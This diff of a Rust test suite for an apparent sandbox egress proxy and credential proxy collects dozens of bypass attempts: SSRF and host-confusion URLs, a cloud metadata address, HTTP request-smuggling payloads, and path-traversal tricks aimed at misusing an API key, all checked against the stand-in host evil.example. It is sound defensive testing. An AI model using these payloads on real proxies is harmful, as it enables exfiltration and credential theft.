@@ -116,82 +116,74 @@ async fn all_stay_inside(attempts: Vec<(Listener, Vec<u8>)>, prison: Prison) {
     assert_eq!((status(&answer.await), prison.evil.connections()), (200, 1));
 }
 
+/// Addresses that are asked of the proxy, and what `Host` says.
+const ADDRESSES: [(&str, &str); 24] = [
+    ("http://evil.example/", "evil.example"),
+    ("http://EVIL.example./", "EVIL.example."),
+    (
+        "http://allowed.example.evil.example/",
+        "allowed.example.evil.example",
+    ),
+    ("http://evilallowed.example/", "evilallowed.example"),
+    ("http://sub.allowed.example/", "sub.allowed.example"),
+    ("http://allowed.example@evil.example/", "allowed.example"),
+    ("http://allowed.example:80@evil.example/", "allowed.example"),
+    ("http://evil.example#@allowed.example/", "allowed.example"),
+    ("http://evil.example?@allowed.example/", "allowed.example"),
+    ("http://evil.example\\@allowed.example/", "allowed.example"),
+    ("http://evil.example/", "allowed.example"),
+    ("http://allowed.example/", "evil.example"),
+    ("http://allowed.example:8080/", "allowed.example:8080"),
+    ("https://evil.example/", "evil.example"),
+    ("ftp://evil.example/", "evil.example"),
+    ("//evil.example/", "evil.example"),
+    ("/", "evil.example"),
+    ("http://evil\u{3002}example/", "evil.example"),
+    ("http://\u{430}llowed.example/", "allowed.example"),
+    ("http://evil.example%00.allowed.example/", "allowed.example"),
+    ("http://evil.example\0.allowed.example/", "allowed.example"),
+    ("http://rebind.example/", "rebind.example"),
+    (
+        "http://169.254.169.254/latest/meta-data/",
+        "169.254.169.254",
+    ),
+    ("http://api.anthropic.com/v1/messages", "api.anthropic.com"),
+];
+
+/// What else is sent to the proxy: odd headers, old and other protocols, requests inside of requests.
+const BYTES: [&str; 14] = [
+    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nHost: evil.example\r\n\r\n",
+    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nX: y\r\n Host: evil.example\r\n\r\n",
+    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nHost : evil.example\r\n\r\n",
+    "GET http://evil.example/\r\n\r\n",
+    "GET http://evil.example/ HTTP/1.0\r\n\r\n",
+    "OPTIONS * HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
+    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    "\x05\x01\x00\x05\x01\x00\x03\x0cevil.example\x00\x50",
+    "\x04\x01\x00\x50\x00\x00\x00\x01x\x00evil.example\x00",
+    "EHLO evil.example\r\n",
+    "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\n\
+     Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
+     Connection: close\r\n\r\n",
+    "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 0\r\n\
+     Content-Length: 60\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
+     Connection: close\r\n\r\n",
+    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n\
+     GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
+    "GET ws://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade\r\n\
+     Upgrade: websocket\r\n\r\n",
+];
+
 #[tokio::test]
 async fn no_request_to_the_proxy_gets_out() {
     let prison = prison().await;
-    let evil_port = prison.evil_port;
-    let proxy = |bytes: Vec<u8>| (Listener::Proxy, bytes);
-    let raw = |text: &str| proxy(text.as_bytes().to_vec());
-    let web = |target: &str, host: &str| proxy(get(target, host));
-    let attempts = vec![
-        web("http://evil.example/", "evil.example"),
-        web("http://EVIL.example./", "EVIL.example."),
-        web(
-            "http://allowed.example.evil.example/",
-            "allowed.example.evil.example",
-        ),
-        web("http://evilallowed.example/", "evilallowed.example"),
-        web("http://sub.allowed.example/", "sub.allowed.example"),
-        web("http://allowed.example@evil.example/", "allowed.example"),
-        web("http://allowed.example:80@evil.example/", "allowed.example"),
-        web("http://evil.example#@allowed.example/", "allowed.example"),
-        web("http://evil.example?@allowed.example/", "allowed.example"),
-        web("http://evil.example\\@allowed.example/", "allowed.example"),
-        web("http://evil.example/", "allowed.example"),
-        web("http://allowed.example/", "evil.example"),
-        web("http://allowed.example:8080/", "allowed.example:8080"),
-        web("https://evil.example/", "evil.example"),
-        web("ftp://evil.example/", "evil.example"),
-        web("//evil.example/", "evil.example"),
-        web("/", "evil.example"),
-        web("http://evil\u{3002}example/", "evil.example"),
-        web("http://\u{430}llowed.example/", "allowed.example"),
-        web("http://evil.example%00.allowed.example/", "allowed.example"),
-        web("http://evil.example\0.allowed.example/", "allowed.example"),
-        web("http://rebind.example/", "rebind.example"),
-        web(&format!("http://127.0.0.1:{evil_port}/"), "allowed.example"),
-        web(
-            "http://169.254.169.254/latest/meta-data/",
-            "169.254.169.254",
-        ),
-        raw(
-            "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nHost: evil.example\r\n\r\n",
-        ),
-        raw(
-            "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nX: y\r\n Host: evil.example\r\n\r\n",
-        ),
-        raw(
-            "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nHost : evil.example\r\n\r\n",
-        ),
-        raw("GET http://evil.example/\r\n\r\n"),
-        raw("GET http://evil.example/ HTTP/1.0\r\n\r\n"),
-        raw("OPTIONS * HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"),
-        raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
-        raw("\x05\x01\x00\x05\x01\x00\x03\x0cevil.example\x00\x50"),
-        raw("\x04\x01\x00\x50\x00\x00\x00\x01x\x00evil.example\x00"),
-        raw("EHLO evil.example\r\n"),
-        proxy(hello("evil.example")),
-        // One request hidden in another.
-        raw(
-            "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\n\
-             Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
-             Connection: close\r\n\r\n",
-        ),
-        raw(
-            "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n\
-             GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
-        ),
-        raw(
-            "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n\
-             GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
-        ),
-        raw(
-            "GET ws://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
-        ),
-        web("http://api.anthropic.com/v1/messages", "api.anthropic.com"),
-    ];
+    let here = format!("http://127.0.0.1:{}/", prison.evil_port);
+    let mut attempts = vec![get(&here, "allowed.example"), hello("evil.example")];
+    attempts.extend(ADDRESSES.map(|(target, host)| get(target, host)));
+    attempts.extend(BYTES.map(|text| text.as_bytes().to_vec()));
     assert_eq!(attempts.len(), 40);
-    all_stay_inside(attempts, prison).await;
+    let attempts = attempts.into_iter().map(|bytes| (Listener::Proxy, bytes));
+    all_stay_inside(attempts.collect(), prison).await;
 }
 
 #[tokio::test]
@@ -296,6 +288,28 @@ async fn nothing_gets_out_where_names_live() {
     all_stay_inside(attempts, prison).await;
 }
 
+/// Paths that the credential is not for.
+const PATHS: [&str; 18] = [
+    "http://evil.example/anthropic/v1/messages",
+    "http://api.anthropic.com/anthropic/v1/messages",
+    "//evil.example/anthropic/v1/messages",
+    "/v1/messages",
+    "/anthropic/v1/messages/",
+    "/anthropic/v1/messages/batches",
+    "/anthropic/v1/messages/../../v1/organizations",
+    "/anthropic/v1/messages/..%2f..%2fv1/organizations",
+    "/anthropic/%2e%2e/v1/messages",
+    "/anthropic/v1%2fmessages",
+    "/anthropic/v1//messages",
+    "/anthropic/v1/messages;x",
+    "/anthropic/v1/messages%00",
+    "/anthropic/v1/files",
+    "/anthropic/v1/organizations/api_keys",
+    "/anthropic@evil.example/v1/messages",
+    "/anthropicx/v1/messages",
+    "/github/owner/repo.git/git-receive-pack",
+];
+
 #[tokio::test]
 async fn no_credential_is_used_for_anything_else() {
     let prison = prison().await;
@@ -315,29 +329,10 @@ async fn no_credential_is_used_for_anything_else() {
         (Listener::Credentials, bytes.into_bytes())
     };
     let key = format!("x-api-key: {right}");
-    let mut attempts: Vec<_> = [
-        "http://evil.example/anthropic/v1/messages",
-        "http://api.anthropic.com/anthropic/v1/messages",
-        "//evil.example/anthropic/v1/messages",
-        "/v1/messages",
-        "/anthropic/v1/messages/",
-        "/anthropic/v1/messages/batches",
-        "/anthropic/v1/messages/../../v1/organizations",
-        "/anthropic/v1/messages/..%2f..%2fv1/organizations",
-        "/anthropic/%2e%2e/v1/messages",
-        "/anthropic/v1%2fmessages",
-        "/anthropic/v1//messages",
-        "/anthropic/v1/messages;x",
-        "/anthropic/v1/messages%00",
-        "/anthropic/v1/files",
-        "/anthropic/v1/organizations/api_keys",
-        "/anthropic@evil.example/v1/messages",
-        "/anthropicx/v1/messages",
-        "/github/owner/repo.git/git-receive-pack",
-    ]
-    .iter()
-    .map(|target| request("POST", target, &key))
-    .collect();
+    let mut attempts: Vec<_> = PATHS
+        .iter()
+        .map(|target| request("POST", target, &key))
+        .collect();
     for method in ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"] {
         attempts.push(request(method, "/anthropic/v1/messages", &key));
     }
